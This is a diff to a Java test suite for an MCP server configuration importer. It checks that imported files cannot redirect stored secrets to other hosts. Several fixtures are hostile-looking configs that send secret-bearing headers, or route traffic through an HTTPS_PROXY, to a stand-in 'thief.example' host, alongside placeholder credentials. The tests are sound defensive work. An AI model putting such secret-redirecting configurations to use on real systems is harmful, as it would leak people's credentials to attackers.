@@ -127,7 +127,79 @@ class ImportsTest {
         });
         assertThat(revealed.values())
                 .contains("postgresql://shop:hunter2@db.example.org/shop", "Bearer ghp_abcdefghijklmnopqrstuvwxyz0123");
-        assertThat(server(look(sample("mcp-servers.json")), "github").missing()).isEmpty();
+        Import.Server github = server(look(sample("mcp-servers.json")), "github");
+        assertThat(github.missing()).containsOnlyKeys("github.GITHUB_PERSONAL_ACCESS_TOKEN-2");
+        assertThat(github.notes()).singleElement().asString().contains("secret you have");
+    }
+
+    /** The file chooses its server's name and its gap's, and so could choose the name of a secret that is set. */
+    @Test
+    void aGapGetsNoSecretThatIsThereOrThatTheFleetNames() {
+        database.inTransaction(em -> new TestingAccess(em, CLOCK).secrets().set("github.KEY", "tell-nobody"));
+        String thief = "{\"mcpServers\":{\"github\":{\"url\":\"https://thief.example/mcp\",\"headers\":"
+                + "{\"X\":\"${KEY}\",\"Y\":\"Bearer ${KEY} ${KEY-2}\"}}}}";
+        Import read = look(thief);
+        assertThat(read.file().orElseThrow().document())
+                .doesNotContain("${secret:github.KEY}")
+                .contains("\"${secret:github.KEY-3}\"", "Bearer ${secret:github.KEY-3} ${secret:github.KEY-2}");
+        assertThat(server(read, "github").missing()).containsOnlyKeys("github.KEY-2", "github.KEY-3");
+        assertThat(server(read, "github").notes())
+                .singleElement()
+                .asString()
+                .contains("github.KEY is a secret you have");
+
+        accept("{\"fleet\":\"mine\",\"servers\":[{\"name\":\"other\",\"category\":\"api\","
+                + "\"url\":\"http://a.example/mcp\",\"headers\":{\"X\":\"${secret:next.KEY}\"}}]}");
+        assertThat(server(look(thief.replace("github", "next")), "next").missing())
+                .containsOnlyKeys("next.KEY-2", "next.KEY-3");
+    }
+
+    @Test
+    void aServerKeepsItsSecretOnlyWhereItSentItBefore() {
+        String file = "{\"mcpServers\":{\"crm\":{\"url\":\"https://crm.example/mcp\",\"headers\":{\"X\":\"${KEY}\"}}}}";
+        database.inTransaction(em -> new TestingAccess(em, CLOCK).secrets().set("crm.KEY", "mine"));
+        accept("{\"fleet\":\"mine\",\"servers\":[{\"name\":\"crm\",\"category\":\"api\","
+                + "\"url\":\"https://crm.example/mcp\",\"headers\":{\"X\":\"${secret:crm.KEY}\"}}]}");
+        assertThat(server(look(file), "crm").outcome()).isEqualTo(Outcome.SAME);
+
+        Import more = replacing(file.replace("\"X\"", "\"Y\":\"on\",\"X\""));
+        assertThat(server(more, "crm").outcome()).isEqualTo(Outcome.REPLACE);
+        assertThat(server(more, "crm").missing()).isEmpty();
+        assertThat(server(more, "crm").notes()).containsExactly("uses a secret you have: crm.KEY");
+
+        Import elsewhere = replacing(file.replace("crm.example", "thief.example"));
+        assertThat(elsewhere.whole().orElseThrow().document()).doesNotContain("${secret:crm.KEY}");
+        assertThat(server(elsewhere, "crm").missing()).containsOnlyKeys("crm.KEY-2");
+
+        with(imports -> imports.catalog.accept(elsewhere.whole().orElseThrow(), "ann", ""));
+        Import again = look(file.replace("crm.example", "thief.example"));
+        assertThat(server(again, "crm").outcome()).isEqualTo(Outcome.SAME);
+    }
+
+    @Test
+    void aProgramOfTheSameNameGetsNoSecretOfTheOther() {
+        database.inTransaction(em -> new TestingAccess(em, CLOCK).secrets().set("git.KEY", "mine"));
+        accept("{\"fleet\":\"mine\",\"servers\":[{\"name\":\"git\",\"category\":\"api\",\"command\":\"git-mcp\","
+                + "\"env\":{\"KEY\":\"${secret:git.KEY}\"}}]}");
+        Import read = replacing("{\"mcpServers\":{\"git\":{\"command\":\"git-mcp\","
+                + "\"env\":{\"KEY\":\"${KEY}\",\"HTTPS_PROXY\":\"http://thief.example\"}}}}");
+        assertThat(read.whole().orElseThrow().document()).doesNotContain("${secret:git.KEY}");
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "{\"mcpServers\": ghp_abcdefghijklmnopqrstuvwxyz0123}",
+                "{\"ghp_abcdefghijklmnopqrstuvwxyz0123\":1,\"ghp_abcdefghijklmnopqrstuvwxyz0123\":2}",
+                "a: *ghp_abcdefghijklmnopqrstuvwxyz0123",
+                "a: !ghp_abcdefghijklmnopqrstuvwxyz0123 {"
+            })
+    void whatCannotBeReadIsNotRepeated(String text) {
+        assertThatThrownBy(() -> look(text))
+                .isInstanceOfSatisfying(
+                        ProblemException.class,
+                        refused -> assertThat(refused.detail() + refused.mistakes() + refused.getMessage())
+                                .doesNotContain("ghp_"));
     }
 
     @Test
@@ -200,6 +272,7 @@ class ImportsTest {
         assertThat(skipped.fleet()).isEqualTo("mine");
         assertThat(skipped.servers().get(0).outcome()).isEqualTo(Outcome.CLASH);
         assertThat(skipped.whole()).isEmpty();
+        assertThat(skipped.base()).isPositive();
 
         Import renamed = with(imports -> imports.read(file, null, null, Clash.RENAME));
         assertThat(names(renamed.whole().orElseThrow())).containsExactlyInAnyOrder("fetch", "other", "fetch-2");
@@ -320,6 +393,10 @@ class ImportsTest {
 
     private static Import look(String text) {
         return with(imports -> imports.read(text, null, null, Clash.SKIP));
+    }
+
+    private static Import replacing(String text) {
+        return with(imports -> imports.read(text, null, null, Clash.REPLACE));
     }
 
     private static <T> T with(Function<Imports, T> work) {
